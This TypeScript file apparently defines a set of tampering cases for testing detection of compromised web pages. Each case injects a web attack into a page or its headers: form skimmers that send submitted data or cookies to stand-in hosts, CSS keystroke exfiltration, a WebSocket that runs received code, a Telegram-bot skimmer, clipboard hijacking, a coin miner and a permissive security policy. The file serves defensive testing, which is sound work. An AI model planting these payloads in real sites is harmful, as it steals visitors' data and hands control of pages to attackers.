// Changes of code and of what HTTP says about a page.
import { raw, every, head, tail, header, bytes, turn, twin, ownFile } from './attack.ts'
import type { Change } from './attack.ts'
import { hash, word, HEX, B64 } from './draw.ts'

const SKIM = (host: string) =>
  `document.addEventListener("submit",function(e){try{navigator.sendBeacon("https://${host}/c",new FormData(e.target))}catch(_){}},true);`

export const ATTACKS_C: Change[] = [
  // [loader-host] The host within a known loader exchanged for one that looks like it.
  {
    id: 'loader-host',
    class: 'code',
    do: (a) => {
      every(a, 'https://www.googletagmanager.com/', 'https://www.googletagmanaqer.example/')
      every(a, "u+'matomo.js'", '"https://cdn.matomo-stats.example/matomo.js"')
    },
  },
  // [container-added] The known tag manager with the container of somebody else.
  {
    id: 'container-added',
    class: 'code',
    do: (a, s) =>
      head(
        a,
        `<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-${word(7, 'ABCDEFGHKLMNPQRSTVWXYZ23456789', s.key, 'evil')}"></script>`,
      ),
  },
  // [import-map] An import map that leads a known name to another host.
  {
    id: 'import-map',
    class: 'code',
    do: (a, s) =>
      raw(
        a,
        '<meta name="viewport"',
        `<script type="importmap">{"imports":{"vue":"https://esm.${twin(s)}/vue.js"}}</script>\n<meta name="viewport"`,
      ),
  },
  // [dynamic-import] An inline script that loads a module from elsewhere.
  {
    id: 'dynamic-import',
    class: 'code',
    do: (a, s) =>
      tail(a, `<script type="module">import("https://cdn.${twin(s)}/m.js").catch(()=>{})</script>`),
  },
  // [skimmer-in-known] The same, within a script block that was there before.
  {
    id: 'skimmer-in-known',
    class: 'code',
    do: (a, s) => {
      if (a.html.includes('<script>')) raw(a, '<script>', '<script>' + SKIM('stat.' + twin(s)))
    },
  },
  // [submit-handler] A handler in the mark-up of the form.
  {
    id: 'submit-handler',
    class: 'code',
    do: (a, s) =>
      raw(
        a,
        'method="post"',
        `method="post" onsubmit="new Image().src='https://px.${twin(s)}/?'+new URLSearchParams(new FormData(this))"`,
      ),
  },
  // [own-sheet-bytes] The site's own style sheet hides the facts.
  {
    id: 'own-sheet-bytes',
    class: 'code',
    do: (a) => bytes(a, '.css', '#hours,#stations{display:none!important}'),
  },
  // [sheet-exfiltration] A style sheet that sends what is typed, letter by letter.
  {
    id: 'sheet-exfiltration',
    class: 'code',
    do: (a, s) =>
      bytes(
        a,
        '.css',
        'abcdefghij'
          .split('')
          .map(
            (k) => `input[name=fullname][value^=${k}]{background:url(https://px.${twin(s)}/${k})}`,
          )
          .join(''),
      ),
  },
  // [worker-registered] A service worker of its own.
  {
    id: 'worker-registered',
    class: 'code',
    do: (a) =>
      tail(
        a,
        '<script>navigator.serviceWorker&&navigator.serviceWorker.register("/media/uploads/sw.js",{scope:"/"})</script>',
      ),
  },
  // [speculation-rules] Rules that fetch a foreign page beforehand.
  {
    id: 'speculation-rules',
    class: 'code',
    do: (a, s) =>
      head(
        a,
        `<script type="speculationrules">{"prerender":[{"source":"list","urls":["https://${twin(s)}/register"]}]}</script>`,
      ),
  },
  // [script-link] A link that runs script.
  {
    id: 'script-link',
    class: 'code',
    do: (a, s) =>
      every(a, 'href="/where"', `href="javascript:void(location.href='https://${twin(s)}/where')"`),
  },
  // [source-document] A frame with its page inside the attribute.
  {
    id: 'source-document',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<iframe width="1" height="1" style="border:0" srcdoc="&lt;script src=https://cdn.${twin(s)}/f.js&gt;&lt;/script&gt;"></iframe>`,
      ),
  },
  // [integrity-removed] A library from another host, without its hash.
  {
    id: 'integrity-removed',
    class: 'code',
    do: (a) => {
      a.html = a.html.replace(
        /<script src="https:\/\/(cdn\.jsdelivr\.net|cdnjs\.cloudflare\.com|code\.jquery\.com)\/([^"]+)" integrity="[^"]+" crossorigin="anonymous"/,
        (_, _h, p) => `<script src="https://cdn.jsdelivr-assets.example/${p}"`,
      )
    },
  },
  // [integrity-exchanged] The same library at its address, with the hash of other bytes.
  {
    id: 'integrity-exchanged',
    class: 'code',
    do: (a, s) => {
      a.html = a.html.replace(
        /integrity="sha384-[^"]+"/,
        () => `integrity="sha384-${word(64, B64, s.key, 'evil')}"`,
      )
    },
  },
  // [picture-handler] A picture that fails on purpose.
  {
    id: 'picture-handler',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<img src="x" alt="" width="1" height="1" onerror="fetch('https://px.${twin(s)}/?'+encodeURIComponent(document.cookie))">`,
      ),
  },
  // [other-package] A known host of packages, an unknown package.
  {
    id: 'other-package',
    class: 'code',
    do: (a) =>
      head(
        a,
        '<script src="https://cdn.jsdelivr.net/npm/form-helper-lite@1.0.2/dist/index.min.js" defer></script>',
      ),
  },
  // [socket] A connection that takes orders.
  {
    id: 'socket',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<script>new WebSocket("wss://live.${twin(s)}/w").onmessage=function(e){(0,Function)(e.data)()}</script>`,
      ),
  },
  // [font-host] Fonts from another host.
  {
    id: 'font-host',
    class: 'code',
    do: (a, s) =>
      head(
        a,
        `<link rel="stylesheet" href="https://fonts.gstatics.example/css?family=Inter&k=${word(6, HEX, s.key)}">`,
      ),
  },
  // [old-polyfill] A script of a host that changed hands.
  {
    id: 'old-polyfill',
    class: 'code',
    do: (a) =>
      head(a, '<script src="https://cdn.polyfill.io/v3/polyfill.min.js?features=es6"></script>'),
  },
  // [clipboard] What is copied is exchanged.
  {
    id: 'clipboard',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<script>document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain","${turn(s.phone)}");e.preventDefault()})</script>`,
      ),
  },
  // [own-script-moved] The own script is taken from a folder of uploads.
  {
    id: 'own-script-moved',
    class: 'code',
    do: (a) => {
      const f = ownFile(a, '.js')
      if (f) {
        const g = '/media/uploads/' + f.split('/').pop()
        every(a, `src="${f}"`, `src="${g}"`)
        a.files = { ...a.files, [g]: a.files![f]! + SKIM('m.example') }
      }
    },
  },
  // [policy-meta] A policy in the page that allows everything.
  {
    id: 'policy-meta',
    class: 'code',
    do: (a) =>
      raw(
        a,
        '<meta name="viewport"',
        '<meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\' \'unsafe-eval\' data: blob:"><meta name="viewport"',
      ),
  },
  // [miner] A program that digs coins.
  {
    id: 'miner',
    class: 'code',
    do: (a) =>
      tail(a, '<script src="https://coinhive-lib.example/m.min.js" data-throttle="0.7"></script>'),
  },
  // [pixel] A counting picture of one dot that reports the path.
  {
    id: 'pixel',
    class: 'code',
    do: (a, s) =>
      tail(a, `<img src="https://px.${twin(s)}/o.gif?p=${s.type}" width="1" height="1" alt="">`),
  },
  // [skimmer-messenger] What is typed goes to a bot of a well-known messenger.
  {
    id: 'skimmer-messenger',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<script>document.addEventListener("submit",function(e){fetch("https://api.telegram.org/bot${hash(s.key, 'bot')}:AA${word(33, HEX, s.key, 'bot')}/sendMessage?chat_id=-100${hash(s.key)}&text="+encodeURIComponent(new URLSearchParams(new FormData(e.target))),{keepalive:true,mode:"no-cors"})},true)</script>`,
      ),
  },
  // [repository-file] A script out of a stranger's repository, by a known host.
  {
    id: 'repository-file',
    class: 'code',
    do: (a, s) =>
      head(
        a,
        `<script src="https://cdn.jsdelivr.net/gh/vote-tools/helper@${word(7, HEX, s.key)}/dist/h.min.js" defer></script>`,
      ),
  },
  // [refresh-header] The header sends the visitor on.
  {
    id: 'refresh-header',
    class: 'http',
    do: (a, s) => header(a, 'refresh', `3; url=https://${twin(s)}/`),
  },
  // [link-header] A foreign sheet in a header.
  {
    id: 'link-header',
    class: 'http',
    do: (a, s) => header(a, 'link', `<https://css.${twin(s)}/base.css>; rel=stylesheet`),
  },
  // [text-plain] The page shows its source.
  {
    id: 'text-plain',
    class: 'http',
    do: (a) => header(a, 'content-type', 'text/plain; charset=utf-8'),
  },
  // [odd-charset] Another character set.
  {
    id: 'odd-charset',
    class: 'http',
    do: (a) => header(a, 'content-type', 'text/html; charset=utf-7'),
  },
  // [refresh-meta] The page sends the visitor on after a while.
  {
    id: 'refresh-meta',
    class: 'http',
    do: (a, s) =>
      raw(
        a,
        '<meta charset="utf-8">',
        `<meta charset="utf-8">\n<meta http-equiv="refresh" content="20;url=https://${twin(s)}/">`,
      ),
  },
  // [policy-opened] The policy allows one more host.
  {
    id: 'policy-opened',
    class: 'http',
    do: (a, s) => {
      const p = a.headers?.['content-security-policy']
      if (p)
        header(
          a,
          'content-security-policy',
          p + `; script-src 'self' 'unsafe-inline' https://cdn.${twin(s)}`,
        )
    },
  },
  // [report-to] Errors are reported to a foreign host.
  {
    id: 'report-to',
    class: 'http',
    do: (a, s) => {
      header(a, 'reporting-endpoints', `default="https://rep.${twin(s)}/r"`)
    },
  },
  // [preload-header] A foreign script fetched by a header.
  {
    id: 'preload-header',
    class: 'http',
    do: (a, s) => header(a, 'link', `<https://cdn.${twin(s)}/v.js>; rel=modulepreload`),
  },
]
